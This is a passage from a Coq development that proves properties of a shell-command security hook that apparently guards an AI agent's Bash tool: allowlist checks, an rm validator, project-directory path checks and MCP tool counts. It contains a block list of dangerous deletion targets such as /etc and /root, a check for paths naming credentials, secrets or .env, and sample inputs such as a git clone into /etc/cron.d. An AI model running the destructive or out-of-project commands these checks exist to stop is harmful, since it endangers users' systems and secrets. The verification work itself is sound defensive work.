  cbv zeta. cbv beta iota.
  change (output_loop "git" ["clone"; "--work-tree"; "--git-dir"]
                      ["clone"; url; dest])
    with (url :: output_loop "git" ["clone"; "--work-tree"; "--git-dir"]
                             [dest]).
  assert (Hd : output_loop "git" ["clone"; "--work-tree"; "--git-dir"] [dest]
               = []).
  { cbn [output_loop].
    change (mem "git" ["unzip"; "jar"]) with false.
    rewrite andb_false_r.
    now destruct (mem dest ["clone"; "--work-tree"; "--git-dir"]). }
  rewrite Hd.
  assert (Ht0 : mem t0 [">"; ">>"] = false).
  { unfold mem. cbn [existsb].
    destruct (String.eqb_spec t0 ">") as [->|_]; [discriminate Hb|].
    destruct (String.eqb_spec t0 ">>") as [->|_]; [discriminate Hb|].
    reflexivity. }
  cbn [redirect_targets]. rewrite Ht0, Hurl.
  change (mem "clone" [">"; ">>"]) with false. cbv beta iota.
  now destruct (mem dest [">"; ">>"]).
Qed.

Lemma git_clone_candidate_is_url_witness :
  extract_file_paths_from_command "git clone https://host/r.git /etc/cron.d"
  = ["https://host/r.git"].
Proof.
  apply (git_clone_candidate_is_url _ "git" _ "/etc/cron.d"); reflexivity.
Defined.

(** ** The client *)

(** X23: the wrapper of the client overwrites the project directory of
    the context, so a call through it is allowed exactly when the
    allowlist and the validators let every name pass and the path
    check on the project directory of the client allows, whatever the
    caller put into the context. *)
Theorem wrapper_allow_iff :
  forall (os : OS) (client_dir : string) (input : HookInput) (c : string),
    tool_name input = Some "Bash" ->
    command input = Some c ->
    c <> EmptyString ->
    (bash_security_hook_with_context os client_dir input = Ret Allow
     <-> passes_command_checks c
         /\ path_check os c (all_commands c) client_dir = Allow).
Proof.
  intros os client_dir input c Ht Hc Hne.
  unfold bash_security_hook_with_context.
  now apply hook_allow_iff_path_check.
Qed.

Lemma wrapper_allow_iff_witness :
  bash_security_hook_with_context
    dev_os "/work/proj" (bash_call "cat /etc/hostname" (Some "/"))
  <> Ret Allow.
Proof.
  intros H.
  apply (wrapper_allow_iff dev_os "/work/proj" _ "cat /etc/hostname")
    in H; [| reflexivity | reflexivity | discriminate].
  destruct H as [_ H]. vm_compute in H. discriminate.
Defined.

Lemma prefix_split (p s : string) :
  String.prefix p s = true -> exists r, s = p ++ r.
Proof.
  revert s. induction p as [|a p IH]; intros s.
  - intros _. now exists s.
  - destruct s as [|b s]; [discriminate|]. cbn [String.prefix].
    destruct (ascii_dec a b) as [->|_]; [|discriminate].
    intros H. destruct (IH s H) as [r ->]. now exists r.
Qed.

Lemma split_str_aux_head (sep : string) (s cur : string) (skip : nat) :
  exists x l, split_str_aux sep skip cur s = x :: l.
Proof.
  revert cur skip. induction s as [|c r IH]; intros cur skip.
  - now exists cur, [].
  - cbn [split_str_aux]. destruct skip as [|k]; [|apply IH].
    destruct (String.prefix sep (String c r)); [|apply IH].
    eexists; eexists; reflexivity.
Qed.

Lemma server_name_total (t : string) :
  is_mcp t = true -> exists name, server_name t = Some name.
Proof.
  intros H. apply prefix_split in H. destruct H as [r ->].
  unfold server_name.
  assert (E : split_str "__" ("mcp__" ++ r)
              = "mcp" :: split_str_aux "__" 0 EmptyString r)
    by (destruct r; reflexivity).
  rewrite E.
  destruct (split_str_aux_head "__" r EmptyString 0) as (x & l & ->).
  now exists x.
Qed.

Lemma all_some_total {A : Type} (f : string -> option A) (l : list string) :
  (forall t, In t l -> exists a, f t = Some a) ->
  exists names, all_some (map f l) = Some names
                /\ List.length names = List.length l.
Proof.
  induction l as [|t l IH]; intros H; [now exists []|].
  destruct (H t (or_introl eq_refl)) as [a Ha].
  destruct IH as (names & Hn & Hl); [intros x Hx; apply H; now right|].
  exists (a :: names). cbn [map all_some]. rewrite Ha, Hn.
  split; [reflexivity | cbn; now rewrite Hl].
Qed.

Lemma nodup_length_le (l : list string) :
  List.length (nodup string_dec l) <= List.length l.
Proof.
  induction l as [|x l IH]; [apply le_n|]. cbn [nodup].
  destruct (in_dec string_dec x l); cbn [List.length]; lia.
Qed.

Lemma nodup_length_pos (l : list string) :
  l <> [] -> 0 < List.length (nodup string_dec l).
Proof.
  induction l as [|x l IH]; [intros H; now elim H|]. intros _.
  cbn [nodup]. destruct (in_dec string_dec x l) as [Hin|_].
  - apply IH. intros ->. destruct Hin.
  - cbn [List.length]. lia.
Qed.

(** X24: the numbers the client reports are consistent.  Every tool is
    counted once, as built-in or as MCP tool; the count of servers
    never fails on the index, because a name that starts with [mcp__]
    has a second part; it is at most the count of MCP tools, and zero
    only when there is no MCP tool. *)
Theorem tool_counts_consistent :
  forall (allowed_tools : list string),
    mcp_tool_count allowed_tools + builtin_count allowed_tools
    = List.length allowed_tools
    /\ exists servers,
         mcp_servers_with_tools allowed_tools = Some servers
         /\ servers <= mcp_tool_count allowed_tools
         /\ (servers = 0 <-> mcp_tool_count allowed_tools = 0).
Proof.
  intros l. split.
  - unfold mcp_tool_count, builtin_count.
    induction l as [|t l IH]; [reflexivity|]. cbn [filter].
    destruct (is_mcp t); cbn [negb List.length]; lia.
  - unfold mcp_servers_with_tools, mcp_tool_count.
    destruct (all_some_total server_name (filter is_mcp l))
      as (names & Hn & Hl).
    { intros t Ht. apply filter_In in Ht. now apply server_name_total. }
    rewrite Hn. cbn [option_map]. eexists. split; [reflexivity|].
    rewrite <- Hl. split; [apply nodup_length_le|]. split.
    + intros H0. destruct names as [|x names]; [reflexivity|].
      assert (Hp : 0 < List.length (nodup string_dec (x :: names)))
        by (apply nodup_length_pos; discriminate).
      lia.
    + intros H0. destruct names; [reflexivity | discriminate].
Qed.

(** ** More on the extractor and on [rm] *)

Lemma token_loop_first (pre args : list string) (t0 : string) :
  forallb argument_token (pre ++ t0 :: args) = true ->
  forallb (fun t => negb (command_word t)) pre = true ->
  command_word t0 = true ->
  token_loop true false (pre ++ t0 :: args) = [basename t0].
Proof.
  induction pre as [|a pre IH]; cbn [app forallb]; intros Ha Hp Hc.
  - apply andb_true_iff in Ha. destruct Ha as [Ht Hr].
    unfold argument_token in Ht.
    repeat (apply andb_true_iff in Ht; destruct Ht as [Ht ?]).
    unfold command_word in Hc.
    repeat (apply andb_true_iff in Hc; destruct Hc as [Hc ?]).
    repeat match goal with
           | H : negb _ = true |- _ => apply negb_true_iff in H
           end.
    assert (Hch : chop_semicolon t0 = t0)
      by (unfold chop_semicolon; now rewrite Ht).
    rewrite token_loop_step. cbv zeta. rewrite Hch, Ht. cbn [andb orb].
    repeat match goal with
           | H : _ = false |- _ => rewrite H; clear H
           end.
    cbv beta iota.
    now rewrite (proj1 (token_loop_arguments args Hr)).
  - apply andb_true_iff in Ha. destruct Ha as [Ht Hr].
    apply andb_true_iff in Hp. destruct Hp as [Hn Hp].
    specialize (IH Hr Hp Hc).
    unfold argument_token in Ht.
    repeat (apply andb_true_iff in Ht; destruct Ht as [Ht ?]).
    repeat match goal with
           | H : negb _ = true |- _ => apply negb_true_iff in H
           end.
    assert (Hch : chop_semicolon a = a)
      by (unfold chop_semicolon; now rewrite Ht).
    unfold command_word in Hn.
    rewrite token_loop_step. cbv zeta. rewrite Hch, Ht. cbn [andb orb].
    repeat match goal with
           | H : mem a _ = false |- _ => rewrite H in *; clear H
           end.
    cbn [negb andb] in Hn.
    destruct (startswith a "-"); [exact IH|].
    destruct (contains "=" a && negb (startswith a "="));
      [exact IH | discriminate Hn].
Qed.

(** X25: the name of a simple command.  In a command without
    semicolon whose tokens are no operators and no keywords, the name
    extracted is the base name of the first token that is neither a
    flag nor an assignment; assignments and flags before it are
    skipped, and what follows it is taken for arguments. *)
Theorem simple_command_name :
  forall (s : string) (pre args : list string) (t0 : string),
    has_char ";" s = false ->
    Shlex.split (strip s) = Some (pre ++ t0 :: args)%list ->
    forallb argument_token (pre ++ t0 :: args) = true ->
    forallb (fun t => negb (command_word t)) pre = true ->
    command_word t0 = true ->
    extract_commands s = [basename t0].
Proof.
  intros s pre args t0 Hs Ht Ha Hp Hc.
  unfold extract_commands, Re.split_semicolons.
  rewrite (split_semicolons_none s None EmptyString Hs).
  cbn [append segment_loop].
  destruct (String.eqb_spec (strip s) EmptyString) as [E|_].
  - rewrite E in Ht. destruct pre; discriminate.
  - rewrite Ht. cbn [segment_loop option_map]. rewrite app_nil_r.
    exact (token_loop_first pre args t0 Ha Hp Hc).
Qed.

Lemma simple_command_name_witness :
  extract_commands "NODE_ENV=test /usr/local/bin/node build.js --watch"
  = ["node"].
Proof.
  apply (simple_command_name
           _ ["NODE_ENV=test"] ["build.js"; "--watch"] "/usr/local/bin/node");
    reflexivity.
Defined.

Lemma rm_target_loop_none (is_recursive : bool) (targets : list string) :
  rm_target_loop is_recursive targets = None
  <-> forallb (fun t => negb (rm_dangerous t)
                        && negb (is_recursive
                                 && (startswith t ".*"
                                     || contains "/.." t)))
              targets = true.
Proof.
  induction targets as [|t l IH]; [cbn; tauto|].
  cbn [rm_target_loop forallb].
  destruct (rm_dangerous t); [split; discriminate|].
  destruct (is_recursive && (startswith t ".*" || contains "/.." t));
    [split; discriminate|].
  exact IH.
Qed.

Lemma find_none_iff (f : string -> bool) (l : list string) :
  find f l = None <-> forallb (fun t => negb (f t)) l = true.
Proof.
  induction l as [|t l IH]; [cbn; tauto|].
  cbn [find forallb]. destruct (f t); [split; discriminate | exact IH].
Qed.

Lemma rm_targets_ok_split (is_recursive : bool) (targets : list string) :
  forallb (rm_target_ok is_recursive) targets = true
  <-> rm_target_loop is_recursive targets = None
      /\ (if is_recursive then find (contains "*") targets else None)
         = None.
Proof.
  rewrite rm_target_loop_none.
  destruct is_recursive.
  - rewrite find_none_iff.
    induction targets as [|t l IH]; [cbn; tauto|].
    cbn [forallb]. unfold rm_target_ok at 1. cbn [andb].
    rewrite !andb_true_iff, IH.
    destruct (rm_dangerous t), (startswith t ".*"), (contains "/.." t),
      (contains "*" t); cbn; tauto.
  - induction targets as [|t l IH]; [cbn; tauto|].
    cbn [forallb]. unfold rm_target_ok at 1. cbn [andb negb].
    rewrite !andb_true_iff, IH. tauto.
Qed.

(** The validator in terms of [rm_target_ok]. *)
Lemma rm_accepts_iff :
  forall (s : string),
    fst (validate_rm_command s) = true
    <-> exists args,
          Shlex.split s = Some ("rm" :: args)
          /\ non_flags args <> []
          /\ forallb (rm_target_ok (rm_is_recursive args)) (non_flags args)
             = true.
Proof.
  intros s. unfold validate_rm_command. split.
  - destruct (Shlex.split s) as [[|t0 args]|]; try discriminate.
    destruct (String.eqb_spec t0 "rm") as [->|_]; [|discriminate].
    cbn [negb]. cbv zeta.
    destruct (non_flags args) as [|t l] eqn:Hn; [discriminate|].
    destruct (rm_target_loop (rm_is_recursive args) (t :: l)) eqn:Hl;
      [discriminate|].
    destruct (if rm_is_recursive args
              then find (contains "*") (t :: l) else None) eqn:Hf;
      [discriminate|].
    intros _. exists args. rewrite Hn. split; [reflexivity|].
    split; [discriminate|]. apply rm_targets_ok_split. now split.
  - intros (args & -> & Hne & Hok).
    change (String.eqb "rm" "rm") with true. cbn [negb]. cbv zeta.
    destruct (non_flags args) as [|t l]; [now elim Hne|].
    apply rm_targets_ok_split in Hok. destruct Hok as [Hl Hf].
    now rewrite Hl, Hf.
Qed.

Lemma rm_dangerous_false (target : string) :
  rm_dangerous target = false
  <-> forall pattern,
        In pattern rm_dangerous_patterns ->
        target <> pattern /\ endswith target pattern = false
        /\ startswith target pattern = false.
Proof.
  unfold rm_dangerous. split.
  - intros H pattern Hp.
    destruct (rm_matches target pattern) eqn:E.
    + assert (existsb (rm_matches target) rm_dangerous_patterns = true)
        by (apply existsb_exists; now exists pattern).
      congruence.
    + unfold rm_matches in E.
      apply orb_false_iff in E. destruct E as [E Hs].
      apply orb_false_iff in E. destruct E as [E He].
      apply String.eqb_neq in E. auto.
  - intros H.
    destruct (existsb (rm_matches target) rm_dangerous_patterns) eqn:E;
      [|reflexivity].
    apply existsb_exists in E. destruct E as (pattern & Hp & Hm).
    destruct (H pattern Hp) as (Hne & He & Hs).
    unfold rm_matches in Hm. rewrite He, Hs, !orb_false_r in Hm.
    apply String.eqb_eq in Hm. now elim Hne.
Qed.

Lemma rm_is_recursive_iff (args : list string) :
  rm_is_recursive args = true
  <-> exists flag,
        In flag args /\ startswith flag "-" = true
        /\ (contains "r" flag = true \/ contains "R" flag = true).
Proof.
  unfold rm_is_recursive, rm_recursive_flag, is_flag.
  rewrite existsb_exists. split.
  - intros (flag & Hin & H). exists flag. split; [exact Hin|].
    apply andb_true_iff in H. destruct H as [Hf H]. split; [exact Hf|].
    apply orb_true_iff in H. destruct H as [H|H].
    + apply orb_true_iff in H. exact H.
    + apply String.eqb_eq in H. subst flag. now left.
  - intros (flag & Hin & Hf & H). exists flag. split; [exact Hin|].
    rewrite Hf. cbn [andb]. destruct H as [-> | ->];
      [reflexivity | now rewrite orb_true_r].
Qed.

(** X26: [validate_rm_command] accepts exactly the commands whose
    first token is [rm], with at least one target, where no target
    equals, ends with or starts with a dangerous pattern and, when a
    flag holds an [r] or an [R], no target starts with a dot and a
    star, holds a slash followed by two dots, or holds a star. *)
Theorem rm_allowed_iff :
  forall (s : string),
    fst (validate_rm_command s) = true
    <-> exists args,
          Shlex.split s = Some ("rm" :: args)
          /\ (exists target, In target args /\ startswith target "-" = false)
          /\ (forall target,
                In target args -> startswith target "-" = false ->
                (forall pattern,
                    In pattern [ "/*"; "../*"; "/.."; "/."; ".*"; "**/";
                                 "~/*"; "/home"; "/etc"; "/usr"; "/var";
                                 "/bin"; "/sbin"; "/lib"; "/boot"; "/dev";
                                 "/proc"; "/sys"; "/root" ] ->
                    target <> pattern /\ endswith target pattern = false
                    /\ startswith target pattern = false)
                /\ ((exists flag,
                        In flag args /\ startswith flag "-" = true
                        /\ (contains "r" flag = true
                            \/ contains "R" flag = true)) ->
                    startswith target ".*" = false
                    /\ contains "/.." target = false
                    /\ contains "*" target = false)).
Proof.
  intros s. rewrite rm_accepts_iff.
  assert (Hok : forall args target,
             rm_target_ok (rm_is_recursive args) target = true
             <-> (forall pattern,
                     In pattern rm_dangerous_patterns ->
                     target <> pattern /\ endswith target pattern = false
                     /\ startswith target pattern = false)
                 /\ ((exists flag,
                         In flag args /\ startswith flag "-" = true
                         /\ (contains "r" flag = true
                             \/ contains "R" flag = true)) ->
                     startswith target ".*" = false
                     /\ contains "/.." target = false
                     /\ contains "*" target = false)).
  { intros args target. unfold rm_target_ok.
    rewrite andb_true_iff, !negb_true_iff, rm_dangerous_false.
    rewrite <- rm_is_recursive_iff.
    destruct (rm_is_recursive args); cbn [andb].
    - rewrite !orb_false_iff. tauto.
    - split; [intros [H _]; split; [exact H | discriminate] | tauto]. }
  split.
  - intros (args & Hs & Hne & Hall). exists args. split; [exact Hs|].
    split; [now apply non_flags_nonempty|].
    intros target Hin Hf. apply (Hok args target).
    rewrite forallb_forall in Hall. apply Hall. now apply non_flags_in.
  - intros (args & Hs & Hne & Hall). exists args. split; [exact Hs|].
    split; [now apply non_flags_nonempty|].
    apply forallb_forall. intros target Ht. apply non_flags_in in Ht.
    destruct Ht as [Hin Hf]. apply (Hok args target).
    exact (Hall target Hin Hf).
Qed.

Lemma rm_allowed_iff_witness :
  fst (validate_rm_command "rm -fr build/out") = true
  /\ fst (validate_rm_command "rm -fr build/*.o") <> true.
Proof.
  split.
  - apply rm_allowed_iff. exists ["-fr"; "build/out"].
    split; [reflexivity|]. split; [exists "build/out"; now split; [right; left|]|].
    intros target [<-|[<-|[]]] Hf; [discriminate Hf|]. split.
    + intros pattern Hp. cbn [In] in Hp.
      repeat (destruct Hp as [<-|Hp];
              [split; [discriminate | split; reflexivity]|]).
      destruct Hp.
    + intros _. repeat split.
  - intros H. apply rm_allowed_iff in H.
    destruct H as (args & Hs & _ & Hall).
    vm_compute in Hs. inversion Hs. subst args. clear Hs.
    destruct (Hall "build/*.o") as [_ Hrec];
      [right; now left | reflexivity |].
    destruct Hrec as (_ & _ & Hstar).
    + exists "-fr". split; [now left|]. split; [reflexivity | now left].
    + discriminate Hstar.
Defined.

(** ** What the decision depends on *)

Section Frame.

Variables os1 os2 : OS.
Hypothesis home_eq : env_home os1 = env_home os2.
Hypothesis pw_eq : forall name, pw_dir os1 name = pw_dir os2 name.

Lemma expanduser_frame (path : string) :
  expanduser os1 path = expanduser os2 path.
Proof.
  unfold expanduser. destruct (startswith path "~"); [|reflexivity].
  destruct (break_at "/" (drop 1 path)) as [name tail].
  now rewrite home_eq, pw_eq.
Qed.

Lemma resolve_target_frame (path dir : string) :
  resolve_target os1 path dir = resolve_target os2 path dir.
Proof. unfold resolve_target. now rewrite expanduser_frame. Qed.

Lemma cp_sensitive_loop_frame (src expanded : string) (l : list string) :
  cp_sensitive_loop os1 src expanded l
  = cp_sensitive_loop os2 src expanded l.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  cbn [cp_sensitive_loop]. now rewrite expanduser_frame, IH.
Qed.

Lemma validate_cp_source_frame (src : string) :
  validate_cp_source_path os1 src = validate_cp_source_path os2 src.
Proof.
  unfold validate_cp_source_path. rewrite expanduser_frame.
  destruct (expanduser os2 src); [|reflexivity].
  now rewrite cp_sensitive_loop_frame.
Qed.

Variable dir : string.
Hypothesis dir_eq : resolve os1 dir = resolve os2 dir.
Hypothesis tmp_eq : resolve os1 "/tmp" = resolve os2 "/tmp".

(** The paths of a list resolve alike. *)
Definition resolve_alike (paths : list string) : Prop :=
  forall p target,
    In p paths -> resolve_target os1 p dir = Some target ->
    resolve os1 target = resolve os2 target.

Lemma validate_frame (path op : string) (allow_tmp : bool) :
  resolve_alike [path] ->
  validate_path_within_project os1 path dir op allow_tmp
  = validate_path_within_project os2 path dir op allow_tmp.
Proof.
  intros Hp. unfold validate_path_within_project.
  rewrite <- resolve_target_frame, <- dir_eq, <- tmp_eq.
  destruct (String.eqb path EmptyString); [reflexivity|].
  destruct (resolve os1 dir); [|reflexivity].
  destruct (resolve_target os1 path dir) as [target|] eqn:E; [|reflexivity].
  now rewrite <- (Hp path target (or_introl eq_refl) E).
Qed.

Lemma resolve_alike_cons (p : string) (paths : list string) :
  resolve_alike (p :: paths) -> resolve_alike [p] /\ resolve_alike paths.
Proof.
  intros H. split.
  - intros q target [<-|[]] E. apply (H p target); [now left | exact E].
  - intros q target Hq E. apply (H q target); [now right | exact E].
Qed.

Lemma resolve_alike_incl (l l' : list string) :
  (forall p, In p l -> In p l') -> resolve_alike l' -> resolve_alike l.
Proof. intros Hi H p target Hp E. exact (H p target (Hi p Hp) E). Qed.

Lemma first_invalid_frame (op : string) (paths : list string) :
  resolve_alike paths ->
  first_invalid
    (fun p => validate_path_within_project os1 p dir op true) paths
  = first_invalid
      (fun p => validate_path_within_project os2 p dir op true) paths.
Proof.
  induction paths as [|p paths IH]; intros H; [reflexivity|].
  apply resolve_alike_cons in H. destruct H as [Hp Hr].
  cbn [first_invalid]. now rewrite (validate_frame p op true Hp), (IH Hr).
Qed.

Lemma cp_sources_loop_frame (sources : list string) :
  resolve_alike sources ->
  cp_sources_loop os1 dir sources = cp_sources_loop os2 dir sources.
Proof.
  induction sources as [|src sources IH]; intros H; [reflexivity|].
  apply resolve_alike_cons in H. destruct H as [Hp Hr].
  cbn [cp_sources_loop].
  now rewrite (validate_frame src _ true Hp), validate_cp_source_frame,
    (IH Hr).
Qed.

Lemma path_check_frame (c : string) (commands : list string) :
  (forall tokens, Shlex.split c = Some tokens -> resolve_alike (tl tokens)) ->
  path_check os1 c commands dir = path_check os2 c commands dir.
Proof.
  intros H. unfold path_check, cp_mv_check.
  destruct (mem (basename (hd EmptyString commands)) ["cp"; "mv"]).
  - destruct (Shlex.split c) as [tokens|]; [|reflexivity].
    specialize (H tokens eq_refl).
    assert (Hcp : resolve_alike (rev (cp_mv_paths tokens))).
    { apply (resolve_alike_incl _ (tl tokens)); [|exact H].
      intros p Hp. apply in_rev in Hp. unfold cp_mv_paths in Hp.
      now apply filter_In in Hp. }
    destruct (rev (cp_mv_paths tokens)) as [|dest [|s rs]];
      try reflexivity.
    apply resolve_alike_cons in Hcp. destruct Hcp as [Hd Hs].
    assert (Hsrc : resolve_alike (rev (s :: rs))).
    { apply (resolve_alike_incl _ (s :: rs)); [|exact Hs].
      intros p Hp. now apply in_rev. }
    now rewrite (validate_frame dest _ true Hd),
      (first_invalid_frame _ _ Hsrc), (cp_sources_loop_frame _ Hsrc).
  - rewrite first_invalid_frame; [reflexivity|].
    intros p target Hp E.
    destruct (file_paths_tokens c p Hp) as (t0 & args & Hs & Hin).
    exact (H (t0 :: args) Hs p target Hin E).
Qed.

End Frame.

Lemma hook_frame (os1 os2 : OS) (input : HookInput) :
  env_home os1 = env_home os2 ->
  (forall name, pw_dir os1 name = pw_dir os2 name) ->
  (forall p, asked os1 input p -> resolve os1 p = resolve os2 p) ->
  bash_security_hook os1 input = bash_security_hook os2 input.
Proof.
  intros Hh Hpw Hr. unfold bash_security_hook.
  destruct (negb (is_bash (tool_name input))); [reflexivity|].
  destruct (command input) as [c|] eqn:Hc; [|reflexivity].
  destruct (String.eqb c EmptyString); [reflexivity|].
  destruct (all_commands c); [reflexivity|].
  destruct (check_commands _ _ _) as [[r|]|e]; try reflexivity.
  destruct (project_dir input) as [dir|] eqn:Hd; [|reflexivity].
  rewrite (path_check_frame os1 os2 Hh Hpw dir); [reflexivity| | |].
  - apply Hr. exists dir, c. auto.
  - apply Hr. exists dir, c. auto.
  - intros tokens Hs p target Hp E. apply Hr. exists dir, c.
    split; [exact Hd|]. split; [exact Hc|]. right; right.
    now exists tokens, p.
Qed.

(** ** The store is read only *)

(** Each function with the store passed along returns what the
    function on the constants returns, when the store is the one of
    the loaded module, and leaves every store as it found it. *)
Lemma check_command_store (c : string) (segs : list string) (cmd : string)
      (store : Store.Config) :
  snd (Store.check_command c segs cmd store) = store
  /\ fst (Store.check_command c segs cmd Store.module_config)
     = check_command c segs cmd.
Proof.
  unfold Store.check_command, check_command, Store.bind, Store.get, Store.ret.
  split.
  - destruct (negb (mem cmd (Store.allowed store))); [reflexivity|].
    destruct (mem cmd (Store.needing_extra store)); reflexivity.
  - change (Store.allowed Store.module_config) with ALLOWED_COMMANDS.
    destruct (negb (mem cmd ALLOWED_COMMANDS)); [reflexivity|].
    change (Store.needing_extra Store.module_config)
      with COMMANDS_NEEDING_EXTRA_VALIDATION.
    destruct (mem cmd COMMANDS_NEEDING_EXTRA_VALIDATION); reflexivity.
Qed.

Lemma check_commands_store (c : string) (segs l : list string)
      (store : Store.Config) :
  snd (Store.check_commands c segs l store) = store
  /\ fst (Store.check_commands c segs l Store.module_config)
     = check_commands c segs l.
Proof.
  induction l as [|cmd rest IH]; [split; reflexivity|].
  cbn [Store.check_commands check_commands]. unfold Store.bind.
  split.
  - pose proof (proj1 (check_command_store c segs cmd store)) as H.
    destruct (Store.check_command c segs cmd store) as [r store'].
    cbn [snd] in H. subst store'.
    destruct r as [[reason|]|e]; [reflexivity | exact (proj1 IH) | reflexivity].
  - pose proof (check_command_store c segs cmd Store.module_config)
      as [Hs Hf].
    destruct (Store.check_command c segs cmd Store.module_config)
      as [r store'].
    cbn [fst snd] in Hs, Hf. subst store'. rewrite <- Hf.
    destruct r as [[reason|]|e]; [reflexivity | | reflexivity].
    clear IH Hf. revert rest.
    assert (H : forall rest,
               fst (Store.check_commands c segs rest Store.module_config)
               = check_commands c segs rest); [|exact H].
    intros rest. induction rest as [|x rest IH]; [reflexivity|].
    cbn [Store.check_commands check_commands]. unfold Store.bind.
    pose proof (check_command_store c segs x Store.module_config)
      as [Hs Hf].
    destruct (Store.check_command c segs x Store.module_config)
      as [r store'].
    cbn [fst snd] in Hs, Hf. subst store'. rewrite <- Hf.
    destruct r as [[reason|]|e]; [reflexivity | exact IH | reflexivity].
Qed.

Lemma validate_cp_source_store (os : OS) (src : string)
      (store : Store.Config) :
  snd (Store.validate_cp_source_path os src store) = store
  /\ fst (Store.validate_cp_source_path os src Store.module_config)
     = validate_cp_source_path os src.
Proof.
  unfold Store.validate_cp_source_path, validate_cp_source_path,
    Store.bind, Store.get, Store.ret.
  destruct (String.eqb src EmptyString); [split; reflexivity|].
  destruct (expanduser os src); split; reflexivity.
Qed.

Lemma cp_sources_loop_store (os : OS) (dir : string) (sources : list string) :
  (forall store, snd (Store.cp_sources_loop os dir sources store) = store)
  /\ fst (Store.cp_sources_loop os dir sources Store.module_config)
     = cp_sources_loop os dir sources.
Proof.
  induction sources as [|src rest [IHs IHf]]; [split; reflexivity|].
  cbn [Store.cp_sources_loop cp_sources_loop]. unfold Store.bind.
  destruct (fst (validate_path_within_project os src dir
                                              "cp source path" true));
    [split; assumption|].
  split.
  - intros store.
    pose proof (proj1 (validate_cp_source_store os src store)) as H.
    destruct (Store.validate_cp_source_path os src store) as [r store'].
    cbn [snd] in H. subst store'.
    destruct r as [[[] reason]|]; [apply IHs | reflexivity | reflexivity].
  - pose proof (validate_cp_source_store os src Store.module_config)
      as [Hs Hf].
    destruct (Store.validate_cp_source_path os src Store.module_config)
      as [r store'].
    cbn [fst snd] in Hs, Hf. subst store'. rewrite <- Hf.
    destruct r as [[[] reason]|]; [exact IHf | reflexivity | reflexivity].
Qed.

Lemma path_check_store (os : OS) (c : string) (commands : list string)
      (dir : string) :
  (forall store, snd (Store.path_check os c commands dir store) = store)
  /\ fst (Store.path_check os c commands dir Store.module_config)
     = path_check os c commands dir.
Proof.
  unfold Store.path_check, path_check, Store.cp_mv_check, cp_mv_check.
  destruct (mem (basename (hd EmptyString commands)) ["cp"; "mv"]);
    [|split; reflexivity].
  destruct (Shlex.split c) as [tokens|]; [|split; reflexivity].
  destruct (rev (cp_mv_paths tokens)) as [|dest [|s rs]];
    try (split; reflexivity).
  destruct (validate_path_within_project os dest dir "Destination path" true)
    as [[] reason]; [|split; reflexivity].
  destruct (String.eqb (basename (hd EmptyString commands)) "mv");
    [split; reflexivity|].
  destruct (String.eqb (basename (hd EmptyString commands)) "cp");
    [|split; reflexivity].
  unfold Store.bind, Store.ret.
  destruct (cp_sources_loop_store os dir (rev (s :: rs))) as [Hs Hf].
  split.
  - intros store. specialize (Hs store).
    destruct (Store.cp_sources_loop os dir (rev (s :: rs)) store)
      as [r store'].
    exact Hs.
  - destruct (Store.cp_sources_loop os dir (rev (s :: rs))
                                    Store.module_config) as [r store'].
    cbn [fst] in Hf. now rewrite <- Hf.
Qed.

Lemma hook_store (os : OS) (input : HookInput) :
  (forall store, snd (Store.bash_security_hook os input store) = store)
  /\ fst (Store.bash_security_hook os input Store.module_config)
     = bash_security_hook os input.
Proof.
  unfold Store.bash_security_hook, bash_security_hook.
  destruct (negb (is_bash (tool_name input))); [split; reflexivity|].
  set (c := match command input with
            | Some c => c
            | None => EmptyString
            end).
  destruct (String.eqb c EmptyString); [split; reflexivity|].
  destruct (all_commands c) as [|x l]; [split; reflexivity|].
  unfold Store.bind, Store.ret. split.
  - intros store.
    pose proof (proj1 (check_commands_store
                         c (split_command_segments c) (x :: l) store)) as H.
    destruct (Store.check_commands c (split_command_segments c) (x :: l)
                                   store) as [r store'].
    cbn [snd] in H. subst store'.
    destruct r as [[reason|]|e]; try reflexivity.
    destruct (project_dir input) as [dir|]; [|reflexivity].
    pose proof (proj1 (path_check_store os c (x :: l) dir) store) as H.
    destruct (Store.path_check os c (x :: l) dir store) as [d store'].
    exact H.
  - pose proof (check_commands_store
                  c (split_command_segments c) (x :: l) Store.module_config)
      as [Hs Hf].
    destruct (Store.check_commands c (split_command_segments c) (x :: l)
                                   Store.module_config) as [r store'].
    cbn [fst snd] in Hs, Hf. subst store'. rewrite <- Hf.
    destruct r as [[reason|]|e]; try reflexivity.
    destruct (project_dir input) as [dir|]; [|reflexivity].
    pose proof (proj2 (path_check_store os c (x :: l) dir)) as H.
    destruct (Store.path_check os c (x :: l) dir Store.module_config)
      as [d store'].
    cbn [fst] in H. now rewrite <- H.
Qed.




(** Whether the list of sensitive paths refuses a source does not
    depend on the order in which the set is iterated. *)
Lemma cp_sensitive_loop_clear (os : OS) (src expanded : string)
      (l : list string) :
  (forall x, In x l -> has_char ch_nul x = false) ->
  (cp_sensitive_loop os src expanded l = Some None
   <-> forall s, In s l -> sensitive_hit os src expanded s = false).
Proof.
  induction l as [|x l IH]; intros Hnul.
  - split; [intros _ s [] | reflexivity].
  - specialize (IH (fun y Hy => Hnul y (or_intror Hy))).
    cbn [cp_sensitive_loop].
    destruct (expanduser_returns os x (Hnul x (or_introl eq_refl)))
      as [ex Hex].
    assert (Hhit : sensitive_hit os src expanded x
                   = (String.eqb expanded ex
                      || startswith expanded (ex ++ "/")
                      || (mem x [ "credentials"; "secrets"; ".env" ]
                          && contains x (lower src)
                          && negb (startswith (lower src) "./")
                          && (startswith src "/" || startswith src "~"))))
      by (unfold sensitive_hit; now rewrite Hex).
    rewrite Hex. cbv zeta.
    destruct (String.eqb expanded ex).
    { split; [discriminate|]. intros H.
      rewrite (H x (or_introl eq_refl)) in Hhit. discriminate. }
    destruct (startswith expanded (ex ++ "/")).
    { split; [discriminate|]. intros H.
      rewrite (H x (or_introl eq_refl)) in Hhit. discriminate. }
    cbn [orb] in Hhit.
    match goal with
    | |- context [if ?b then _ else _] => destruct b
    end.
    { split; [discriminate|]. intros H.
      rewrite (H x (or_introl eq_refl)) in Hhit. discriminate. }
    rewrite IH. split.
    + intros H s [<-|Hs]; [exact Hhit | exact (H s Hs)].
    + intros H s Hs. apply H. now right.
Qed.

Lemma sensitive_order_irrelevant (os : OS) (src expanded : string)
      (l : list string) :
  (forall x, In x l <-> In x SENSITIVE_SYSTEM_DIRECTORIES) ->
  (cp_sensitive_loop os src expanded l = Some None
   <-> cp_sensitive_loop os src expanded SENSITIVE_SYSTEM_DIRECTORIES
       = Some None).
Proof.
  intros Hl.
  rewrite (cp_sensitive_loop_clear os src expanded l),
